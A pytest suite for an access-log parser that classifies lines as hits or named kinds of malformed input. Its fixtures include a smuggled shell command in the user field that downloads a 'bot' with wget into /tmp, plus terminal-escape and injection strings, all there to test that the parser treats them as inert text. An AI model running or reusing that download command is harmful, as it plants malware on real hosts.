"""Every line of a log is a hit or rubbish of a named kind, whatever it holds."""

import gzip
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from dags.demo.traffic.access_log import (
    MAX_LINE_BYTES,
    SAMPLE_WIDTH,
    Hit,
    Rubbish,
    RubbishKind,
    parse_line,
)
from dags.demo.traffic.log_files import read_log

COMMON = b'uplherc.upl.com - - [01/Aug/1995:00:00:07 -0400] "GET / HTTP/1.0" 304 0'
COMBINED = (
    b'10.4.202.58 - - [17/Dec/2025:09:03:01 +0000] "GET /about?utm_source=x HTTP/1.1" 200 166 '
    b'"https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0"'
)


def hit(raw: bytes) -> Hit:
    """Parse a line that must be a hit."""
    parsed = parse_line(raw, 1)
    assert isinstance(parsed, Hit), parsed
    return parsed


def test_a_common_line_is_a_hit_at_its_instant_in_utc() -> None:
    assert parse_line(COMMON + b"\r\n", 7) == Hit(
        line=7,
        at=datetime(1995, 8, 1, 4, 0, 7, tzinfo=UTC),
        address="uplherc.upl.com",
        host="",
        method="GET",
        target="/",
        status=304,
        referrer="",
        user_agent="",
    )


def test_a_combined_line_is_a_hit_with_referrer_and_user_agent() -> None:
    assert parse_line(COMBINED, 1) == Hit(
        line=1,
        at=datetime(2025, 12, 17, 9, 3, 1, tzinfo=UTC),
        address="10.4.202.58",
        host="",
        method="GET",
        target="/about?utm_source=x",
        status=200,
        referrer="https://www.example.org/",
        user_agent="Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
    )


@pytest.mark.parametrize(
    ("request_line", "method", "target"),
    [
        pytest.param(b"GET /ksc.html", "GET", "/ksc.html", id="HTTP/0.9"),
        pytest.param(b"GET /facts.html   HTTP/1.0", "GET", "/facts.html", id="blanks before the protocol"),
        pytest.param(b"GET / HTTP/V1.0", "GET", "/", id="odd protocol version"),
        pytest.param(b"GET /a b.html HTTP/1.0", "GET", "/a b.html", id="blank in the path"),
        pytest.param(b"CONNECT example.com:443 HTTP/1.1", "CONNECT", "example.com:443", id="authority"),
        pytest.param(rb"GET /say?\"hello\" HTTP/1.1", "GET", r"/say?\"hello\"", id="quotes as Apache logs them"),
        pytest.param(rb"GET /\x22;rm HTTP/1.1", "GET", r"/\x22;rm", id="a quote as nginx logs it stays escaped"),
        pytest.param(b"SSTP_DUPLEX_POST /sra_/ HTTP/1.1", "SSTP_DUPLEX_POST", "/sra_/", id="unusual method"),
    ],
)
def test_a_request_line_is_split_into_method_and_target(request_line: bytes, method: str, target: str) -> None:
    parsed = hit(COMMON.replace(b"GET / HTTP/1.0", request_line))
    assert (parsed.method, parsed.target) == (method, target)


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        pytest.param(b"", RubbishKind.BLANK, id="nothing"),
        pytest.param(b" \t \r\n", RubbishKind.BLANK, id="blanks"),
        pytest.param(b"A" * (MAX_LINE_BYTES + 1), RubbishKind.TOO_LONG, id="overlong"),
        pytest.param(COMMON.replace(b"/ ", b"/\xff "), RubbishKind.NOT_UTF8, id="latin-1"),
        pytest.param(COMMON.replace(b"/ ", b"/\x1b[2J "), RubbishKind.UNPRINTABLE, id="terminal escape"),
        pytest.param(COMMON.replace(b"/ ", b"/\x00 "), RubbishKind.UNPRINTABLE, id="nul"),
        pytest.param(COMMON.replace(b"/ ", b"/\xe2\x80\xae "), RubbishKind.UNPRINTABLE, id="right-to-left"),
        pytest.param(b"Starting nginx", RubbishKind.MALFORMED, id="another program's line"),
        pytest.param(COMBINED[:-5], RubbishKind.MALFORMED, id="cut in the user agent"),
        pytest.param(
            b'userp2.snowhill.com - - [05/Aug/1995:14:57:06 -0400] "GET / " HTTP/1.0" 200 7034',
            RubbishKind.MALFORMED,
            id="a quote that is not escaped",
        ),
        pytest.param(COMMON.replace(b"01/Aug", b"31/Jun"), RubbishKind.BAD_TIMESTAMP, id="31 June"),
        pytest.param(COMMON.replace(b"Aug", b"Ago"), RubbishKind.BAD_TIMESTAMP, id="Spanish month"),
        pytest.param(COMMON.replace(b"-0400", b"-9900"), RubbishKind.BAD_TIMESTAMP, id="offset of 99 hours"),
        pytest.param(COMMON.replace(b" -0400", b""), RubbishKind.BAD_TIMESTAMP, id="no offset"),
        pytest.param(COMMON.replace(b"1995", b"0001"), RubbishKind.BAD_TIMESTAMP, id="year 1"),
        pytest.param(COMMON.replace(b"1995", b"9999"), RubbishKind.BAD_TIMESTAMP, id="year 9999"),
        pytest.param(COMMON.replace(b" 304 ", b" - "), RubbishKind.BAD_STATUS, id="no status"),
        pytest.param(COMMON.replace(b" 304 ", b" 999 "), RubbishKind.BAD_STATUS, id="status 999"),
        pytest.param(COMMON.replace(b"GET / HTTP/1.0", b""), RubbishKind.EMPTY_REQUEST, id="empty request"),
        pytest.param(COMMON.replace(b"GET / HTTP/1.0", b"-"), RubbishKind.EMPTY_REQUEST, id="hyphen"),
        pytest.param(COMMON.replace(b"GET / HTTP/1.0", rb"\x16\x03\x01\x00\xEE"), RubbishKind.BINARY_REQUEST, id="TLS"),
        pytest.param(COMMON.replace(b"GET / HTTP/1.0", rb"{\x22id\x22: 1}"), RubbishKind.NOT_HTTP, id="JSON"),
        pytest.param(COMMON.replace(b"GET / HTTP/1.0", b"SSH-2.0-Go"), RubbishKind.NOT_HTTP, id="SSH"),
        pytest.param(COMMON.replace(b"HTTP/1.0", b"ICAP/1.0"), RubbishKind.NOT_HTTP, id="ICAP"),
    ],
)
def test_a_line_that_is_no_hit_is_rubbish_of_a_named_kind(raw: bytes, kind: RubbishKind) -> None:
    parsed = parse_line(raw, 3)
    assert isinstance(parsed, Rubbish), parsed
    assert (parsed.line, parsed.kind) == (3, kind)


def test_a_command_in_the_user_field_is_text_like_any_other() -> None:
    raw = (
        b"10.1.2.3 - ';echo '[S]';cd /tmp; wget 10.9.9.9/x -O bot;echo '[E]';' [20/Dec/2025:10:00:00 +0000] "
        b'"GET / HTTP/1.1" 401 0 "-" "-"'
    )
    assert (hit(raw).address, hit(raw).status) == ("10.1.2.3", 401)


def test_the_host_before_the_address_is_the_host_and_not_the_visitor() -> None:
    parsed = hit(b"www.example.org:443 " + COMBINED)
    assert (parsed.host, parsed.address) == ("www.example.org", "10.4.202.58")


@pytest.mark.parametrize("address", [b"::1", b"fe80::1", b"2001:db8::ff00:42:8329", b"1:2:3:4:5:6:7:8"])
def test_an_ipv6_address_is_not_taken_for_host_and_port(address: bytes) -> None:
    parsed = hit(COMMON.replace(b"uplherc.upl.com", address))
    assert (parsed.host, parsed.address) == ("", address.decode())


def test_fields_after_the_user_agent_are_ignored() -> None:
    assert hit(COMBINED + b' "203.0.113.9" rt=0.004') == hit(COMBINED)


def test_a_sample_of_rubbish_is_short_ascii_without_control_characters() -> None:
    parsed = parse_line(b"\x1b]0;owned\x07 \xe2\x80\xae" + b"\x00" * 500, 1)
    assert isinstance(parsed, Rubbish)
    assert parsed.sample.isascii()
    assert parsed.sample.isprintable()
    assert len(parsed.sample) <= SAMPLE_WIDTH


@pytest.mark.parametrize("name", ["access.log", "access.log.gz"])
@pytest.mark.parametrize("is_gzip", [False, True])
def test_a_file_is_read_as_what_it_is_and_not_as_what_it_is_called(tmp_path: Path, name: str, *, is_gzip: bool) -> None:
    content = COMMON + b"\n" + COMBINED + b"\n"
    (tmp_path / name).write_bytes(gzip.compress(content) if is_gzip else content)
    assert list(read_log(tmp_path / name)) == [parse_line(COMMON, 1), parse_line(COMBINED, 2)]


def test_a_gzip_file_that_breaks_off_keeps_what_was_read_and_says_so(tmp_path: Path) -> None:
    lines = [COMMON.replace(b"GET /", b"GET /%d" % number) for number in range(50_000)]
    packed = gzip.compress(b"\n".join(lines))
    (tmp_path / "log").write_bytes(packed[: len(packed) // 2])
    *kept, last = read_log(tmp_path / "log")
    assert len(kept) > 1_000
    assert kept == [parse_line(raw, number) for number, raw in enumerate(lines[: len(kept)], start=1)]
    assert isinstance(last, Rubbish)
    assert (last.line, last.kind) == (len(kept) + 1, RubbishKind.BROKEN_STREAM)


def test_an_overlong_line_counts_once_and_the_next_one_is_read(tmp_path: Path) -> None:
    (tmp_path / "log").write_bytes(b"A" * (3 * MAX_LINE_BYTES + 5) + b"\n" + COMMON + b"\n")
    first, second = read_log(tmp_path / "log")
    assert isinstance(first, Rubbish)
    assert first.kind is RubbishKind.TOO_LONG
    assert second == parse_line(COMMON, 2)


def test_a_line_of_the_greatest_length_is_still_read(tmp_path: Path) -> None:
    line = COMMON.replace(b"GET /", b"GET /" + b"a" * (MAX_LINE_BYTES - len(COMMON) - 1)) + b"\n"
    assert len(line) == MAX_LINE_BYTES
    (tmp_path / "log").write_bytes(line * 2)
    assert [type(entry) for entry in read_log(tmp_path / "log")] == [Hit, Hit]


# How files begin that are unpacked first.
PACKED = (b"\x1f\x8b", b"BZh", b"\xfd7zXZ\x00", b"\x28\xb5\x2f\xfd")

# Any bytes at all, and real lines with some bytes of them replaced: those reach further into the parser.
DAMAGED = st.tuples(
    st.sampled_from([COMMON, COMBINED]), st.integers(0, 200), st.integers(0, 20), st.binary(max_size=20)
).map(lambda cut: cut[0][: cut[1]] + cut[3] + cut[0][cut[1] + cut[2] :])


@given(st.lists(st.one_of(st.binary(max_size=80), DAMAGED), max_size=12).map(b"\n".join))
def test_any_bytes_are_read_and_every_line_comes_out_exactly_once(
    tmp_path_factory: pytest.TempPathFactory, content: bytes
) -> None:
    assume(not content.startswith(PACKED))
    path = tmp_path_factory.mktemp("any") / "log"
    path.write_bytes(content)
    entries = list(read_log(path))
    lines = content.split(b"\n")
    assert [entry.line for entry in entries] == list(range(1, len(lines) + (lines[-1] != b"")))
    assert all(entry.sample.isascii() for entry in entries if isinstance(entry, Rubbish))


@given(DAMAGED)
def test_a_hit_of_any_line_holds_only_printable_text_and_a_utc_instant(raw: bytes) -> None:
    parsed = parse_line(raw, 1)
    if isinstance(parsed, Hit):
        assert parsed.at.tzinfo is UTC
        assert all(text.isprintable() for text in parsed if isinstance(text, str))
